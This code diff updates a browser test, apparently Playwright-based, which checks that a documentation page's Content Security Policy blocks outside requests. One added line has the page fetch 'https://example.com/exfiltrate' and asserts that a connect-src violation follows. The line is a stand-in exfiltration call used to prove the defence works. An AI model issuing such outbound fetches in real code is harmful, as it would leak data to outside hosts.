@@ -33,11 +33,9 @@ describe.skipIf(!existsSync(chromiumPath))("GET /docs in Chromium", () => {
       // Answers received: a request the CSP blocks (Scalar's web fonts) never reaches the network, and has none.
       page.on("response", (r) => requested.add(new URL(r.url()).origin));
       await page.exposeFunction("reportViolation", (v: string) => violations.push(v));
-      await page.addInitScript(() =>
-        document.addEventListener("securitypolicyviolation", (e) =>
-          (window as unknown as { reportViolation(v: string): void }).reportViolation(`${e.effectiveDirective} ${e.blockedURI}`),
-        ),
-      );
+      await page.addInitScript({
+        content: `document.addEventListener("securitypolicyviolation", (e) => window.reportViolation(e.effectiveDirective + " " + e.blockedURI));`,
+      });
 
       await page.goto(`${origin}/docs#tag/calls/GET/trpc/calls.get`);
       await page.getByRole("heading", { name: "calls.get" }).first().waitFor({ timeout: 90_000 });
@@ -51,9 +49,14 @@ describe.skipIf(!existsSync(chromiumPath))("GET /docs in Chromium", () => {
       expect(await snippet.textContent()).toMatch(/calls\.get\?input=%7B%22id%22%3A%22[0-9a-f-]{36}%22%7D/);
 
       expect([...requested]).toEqual([origin]);
+      // The page cannot reach elsewhere either (and the listener above hears the CSP): a fetch to another origin is refused.
+      await page.evaluate(`fetch("https://example.com/exfiltrate").catch(() => null)`);
+      await expect.poll(() => violations).toContain("connect-src https://example.com/exfiltrate");
       // What the CSP refuses, it refuses harmlessly: zod's probe for `Function` (it falls back) and the web fonts
       // Scalar's stylesheet names on fonts.scalar.com (system fonts are used).
-      const unexpected = violations.filter((v) => v !== "script-src eval" && !/^font-src https:\/\/fonts\.scalar\.com\//.test(v));
+      const unexpected = violations.filter(
+        (v) => v !== "script-src eval" && !/^font-src https:\/\/fonts\.scalar\.com\//.test(v) && !v.includes("example.com/exfiltrate"),
+      );
       expect(unexpected).toEqual([]);
     } finally {
       await context.close();
